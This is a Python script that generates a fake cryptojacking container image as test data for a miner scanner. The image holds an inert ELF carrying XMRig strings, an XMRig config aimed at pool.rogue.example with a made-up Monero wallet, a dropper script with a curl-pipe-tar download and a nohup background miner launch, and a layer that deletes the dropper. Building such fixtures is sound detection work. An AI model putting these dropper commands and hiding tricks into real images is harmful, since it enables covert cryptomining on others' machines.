#!/usr/bin/env python3
"""Makes testdata/rogue-image.tar: a container image that looks like a miner's and does nothing.

    testdata/make_rogue_image.py            writes rogue-image.tar beside this script
    testdata/make_rogue_image.py --check    fails when the checked-in file is not what it would write

The bytes depend on nothing but this file: no clock, no compressor's version, no random numbers.
testdata/README.md says what is in the image and why.  The end-to-end tests and the benchmark import
the makers below for their own variants, so that there is one fake miner and one made-up wallet.
"""
import binascii
import hashlib
import io
import json
import pathlib
import struct
import sys
import tarfile
from typing import Dict, List, NamedTuple, Optional, Tuple

OUTPUT = pathlib.Path(__file__).resolve().parent / "rogue-image.tar"
POOL = "pool.rogue.example:3333"
MINER_PATH = "usr/local/lib/.cache/kworkerds"
CONFIG_PATH = "usr/local/lib/.cache/config.json"
DROPPER_PATH = "tmp/install.sh"

# --- a wallet of nobody, with a valid checksum -----------------------------------------------------


def keccak_256(data: bytes) -> bytes:
    """Keccak with its original padding, as CryptoNote uses it; hashlib only has SHA-3's."""
    mask = (1 << 64) - 1

    def rotate(word: int, by: int) -> int:
        return ((word << by) | (word >> (64 - by))) & mask if by else word

    rate = 136
    padded = bytearray(data) + b"\x01"
    padded += bytes(-len(padded) % rate)
    padded[-1] |= 0x80
    state = [0] * 25
    for block in range(0, len(padded), rate):
        for i, word in enumerate(struct.unpack_from("<17Q", padded, block)):
            state[i] ^= word
        lfsr = 1
        for _ in range(24):
            columns = [state[x] ^ state[x + 5] ^ state[x + 10] ^ state[x + 15] ^ state[x + 20]
                       for x in range(5)]
            for i in range(25):
                state[i] ^= columns[(i + 4) % 5] ^ rotate(columns[(i + 1) % 5], 1)
            x, y, carried = 1, 0, state[1]
            for t in range(24):
                x, y = y, (2 * x + 3 * y) % 5
                carried, state[x + 5 * y] = (state[x + 5 * y],
                                             rotate(carried, (t + 1) * (t + 2) // 2 % 64))
            for row in range(0, 25, 5):
                old = state[row:row + 5]
                for i in range(5):
                    state[row + i] = old[i] ^ (~old[(i + 1) % 5] & mask & old[(i + 2) % 5])
            for j in range(7):
                if lfsr & 1:
                    state[0] ^= 1 << ((1 << j) - 1)
                lfsr = (lfsr << 1) ^ (0x171 if lfsr & 0x80 else 0)
    return struct.pack("<4Q", *state[:4])


def cryptonote_base58(payload: bytes) -> str:
    alphabet = "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz"
    widths = (0, 2, 3, 5, 6, 7, 9, 10, 11)  # characters for a block of so many bytes
    text = ""
    for at in range(0, len(payload), 8):
        block = payload[at:at + 8]
        number, digits = int.from_bytes(block, "big"), ""
        for _ in range(widths[len(block)]):
            number, digit = divmod(number, 58)
            digits = alphabet[digit] + digits
        text += digits
    return text


def wallet(owner: str = "nobody") -> str:
    """A Monero main-net address whose keys are hashes of a word: no one can hold its secrets."""
    keys = b"".join(hashlib.sha256(f"minescan test data {kind} {owner}".encode()).digest()
                    for kind in ("spend", "view"))
    payload = b"\x12" + keys
    return cryptonote_base58(payload + keccak_256(payload)[:4])


# --- files that look like a miner's ----------------------------------------------------------------

# Strings that XMRig keeps when it is stripped and renamed.
MINER_STRINGS = [
    "Usage: xmrig [OPTIONS]",
    "mining algorithm https://xmrig.com/docs/algorithms",
    "username:password pair for mining server",
    "send keepalived packet for prevent timeout (needs pool support)",
    "donate level, default 1%% (1 minute in 100 minutes)",
    "control donate over xmrig-proxy feature",
    "maximum CPU threads count (in percentage) hint for autoconfig",
    "number of 2 MB pages for persistent memory pool, -1 (auto), 0 (disable)",
    "enable huge pages support for RandomX JIT code",
    "use 1GB hugepages for RandomX dataset (Linux only)",
    "write custom value(s) to MSR registers or disable MSR mod (-1)",
    "threads count to initialize RandomX dataset",
    " * COMMANDS     'h' hashrate, 'p' pause, 'r' resume, 's' results, 'c' connection",
    "dev donate started",
    "dev donate finished",
    "no active pools, stop mining",
    "no valid configuration found, try https://xmrig.com/wizard",
    "FAILED TO APPLY MSR MOD, HASHRATE WILL BE LOW",
    "/sbin/modprobe msr allow_writes=on > /dev/null 2>&1",
    "--donate-level",
    "--randomx-1gb-pages",
    "--cpu-max-threads-hint",
    "cn/turtle-lite (128 KB)",
    "Empty block template received from daemon.",
]


def fake_miner(strings: Optional[List[str]] = None) -> bytes:
    """An x86-64 ELF program of one deed, exit(0), whose .rodata holds a miner's strings."""
    rodata = b"\0".join(s.encode() for s in MINER_STRINGS if strings is None or s in strings)
    rodata = b"This is test data of minescan: it only exits.\0" + rodata + b"\0"
    base, header, code_at = 0x400000, 64, 64 + 56
    code = b"\xb8\x3c\x00\x00\x00\x31\xff\x0f\x05".ljust(16, b"\xcc")  # exit(0)
    names = b"\0.text\0.rodata\0.shstrtab\0"
    rodata_at = code_at + len(code)
    names_at = rodata_at + len(rodata)
    sections_at = (names_at + len(names) + 7) & ~7
    ident = b"\x7fELF\x02\x01\x01".ljust(16, b"\0")
    elf = ident + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, base + code_at, header, sections_at, 0,
                              header, 56, 1, 64, 4, 3)
    elf += struct.pack("<IIQQQQQQ", 1, 5, 0, base, base, names_at, names_at, 4096)
    elf += code + rodata + names
    elf = elf.ljust(sections_at, b"\0")

    def section(name: int, kind: int, flags: int, at: int, size: int) -> bytes:
        return struct.pack("<IIQQQQIIQQ", name, kind, flags, base + at if flags else 0, at, size, 0,
                           0, 1, 0)

    elf += bytes(64) + section(1, 1, 6, code_at, len(code))
    elf += section(7, 1, 2, rodata_at, len(rodata)) + section(15, 3, 0, names_at, len(names))
    return elf


def miner_config(pool: str = POOL, user: Optional[str] = None) -> bytes:
    return json.dumps({
        "autosave": True, "background": True, "colors": False,
        "randomx": {"init": -1, "mode": "auto", "1gb-pages": False, "rdmsr": True, "wrmsr": True,
                    "cache_qos": False, "numa": True, "scratchpad_prefetch_mode": 1},
        "cpu": {"enabled": True, "huge-pages": True, "huge-pages-jit": False, "hw-aes": None,
                "priority": None, "memory-pool": False, "yield": True, "max-threads-hint": 50},
        "opencl": {"enabled": False}, "cuda": {"enabled": False},
        "donate-level": 0, "donate-over-proxy": 0, "log-file": None,
        "pools": [{"algo": "rx/0", "coin": "monero", "url": pool, "user": user or wallet(),
                   "pass": "x", "rig-id": "rig", "nicehash": False, "keepalive": True,
                   "enabled": True, "tls": True, "tls-fingerprint": None, "daemon": False,
                   "socks5": None, "self-select": None, "submit-to-origin": False}],
        "print-time": 60, "retries": 5, "retry-pause": 5, "pause-on-battery": False,
    }, indent=4).encode() + b"\n"


def miner_argv(pool: str = POOL, user: Optional[str] = None) -> List[str]:
    return ["/" + MINER_PATH, "-o", "stratum+tcp://" + pool, "-u", user or wallet(), "-p", "x",
            "-k", "--tls", "--coin", "monero", "--donate-level=0", "--cpu-max-threads-hint=50"]


def dropper_script() -> bytes:
    return ("#!/bin/sh\n"
            "# Test data of minescan: an installer that installs nothing.\n"
            "exit 0\n"
            "curl -fsSL https://files.rogue.example/xmrig-6.26.0-linux-static-x64.tar.gz | tar xz\n"
            f"nohup ./xmrig -o stratum+tcp://{POOL} -u {wallet()} -p x -k --tls --background "
            ">/dev/null 2>&1 &\n").encode()


# --- image parts -----------------------------------------------------------------------------------


class File(NamedTuple):
    path: str
    data: bytes = b""
    mode: int = 0o644


def layer_tar(files: List[File]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for file in files:
            info = tarfile.TarInfo(file.path)
            info.size, info.mode = len(file.data), file.mode
            tar.addfile(info, io.BytesIO(file.data))
    return out.getvalue()


def gzip_stored(data: bytes) -> bytes:
    """A gzip member of stored blocks: the same bytes whatever version of zlib is installed."""
    out = bytearray(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff")
    blocks = [data[at:at + 65535] for at in range(0, len(data), 65535)] or [b""]
    for i, block in enumerate(blocks):
        out += struct.pack("<BHH", i == len(blocks) - 1, len(block), len(block) ^ 0xffff) + block
    return bytes(out + struct.pack("<II", binascii.crc32(data), len(data) & 0xffffffff))


def sha256(data: bytes) -> str:
    return "sha256:" + hashlib.sha256(data).hexdigest()


def rogue_layers() -> List[Tuple[str, bytes]]:
    """(command, tar) of each layer, lowest first."""
    base = [File("etc/os-release", b'ID=rogue\nPRETTY_NAME="Rogue, test data of minescan"\n'),
            File("etc/passwd", b"root:x:0:0:root:/root:/bin/sh\n")]
    app = [File("srv/app/server.py",
                b"from http.server import SimpleHTTPRequestHandler, test\n\n"
                b"test(SimpleHTTPRequestHandler, port=8080)\n"),
           File("srv/app/README.md", b"# Shop\n\nServes the shop's pages.\n")]
    rogue = [File(DROPPER_PATH, dropper_script(), 0o755),
             File(MINER_PATH, fake_miner(), 0o755),
             File(CONFIG_PATH, miner_config())]
    directory, _, name = DROPPER_PATH.rpartition("/")
    return [("ADD rootfs.tar / # buildkit", layer_tar(base)),
            ("COPY app /srv/app # buildkit", layer_tar(app)),
            ("RUN /bin/sh -c sh /tmp/install.sh # buildkit", layer_tar(rogue)),
            ("RUN /bin/sh -c rm -f /tmp/install.sh # buildkit",
             layer_tar([File(f"{directory}/.wh.{name}")]))]


def oci_archive(layers: List[Tuple[str, bytes]], entrypoint: List[str], tag: str) -> bytes:
    """An OCI layout as a tar, as skopeo's oci-archive: writes it."""
    blobs: Dict[str, bytes] = {}

    def blob(media_type: str, data: bytes) -> dict:
        blobs[sha256(data)] = data
        return {"mediaType": f"application/vnd.oci.image.{media_type}", "digest": sha256(data),
                "size": len(data)}

    def text(value: object) -> bytes:
        return json.dumps(value, indent=1).encode()

    created = "2026-01-01T00:00:00Z"
    config = blob("config.v1+json", text({
        "created": created, "architecture": "amd64", "os": "linux",
        "config": {"Entrypoint": entrypoint, "WorkingDir": "/srv/app",
                   "Env": ["PATH=/usr/local/bin:/usr/bin:/bin"]},
        "rootfs": {"type": "layers", "diff_ids": [sha256(tar) for _, tar in layers]},
        "history": [{"created": created, "created_by": command} for command, _ in layers] +
                   [{"created": created, "created_by": f"ENTRYPOINT {json.dumps(entrypoint)}",
                     "empty_layer": True}]}))
    descriptors = [blob("layer.v1.tar+gzip", gzip_stored(tar)) for _, tar in layers]
    manifest = blob("manifest.v1+json", text({
        "schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
        "config": config, "layers": descriptors}))
    index = {"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
             "manifests": [{**manifest, "platform": {"architecture": "amd64", "os": "linux"},
                            "annotations": {"org.opencontainers.image.ref.name": tag}}]}
    return layer_tar([File("oci-layout", b'{"imageLayoutVersion": "1.0.0"}'),
                      File("index.json", text(index))] +
                     [File(f"blobs/{digest.replace(':', '/')}", data)
                      for digest, data in sorted(blobs.items())])


def rogue_image() -> bytes:
    return oci_archive(rogue_layers(), miner_argv(), "latest")


def main() -> int:
    made = rogue_image()
    if "--check" in sys.argv[1:]:
        if not OUTPUT.exists() or OUTPUT.read_bytes() != made:
            print(f"{OUTPUT.name} is not what {sys.argv[0]} makes: run the script and commit both")
            return 1
        print(f"{OUTPUT.name} is what {sys.argv[0]} makes")
        return 0
    OUTPUT.write_bytes(made)
    print(f"{OUTPUT}: {len(made)} bytes")
    return 0


if __name__ == "__main__":
    sys.exit(main())
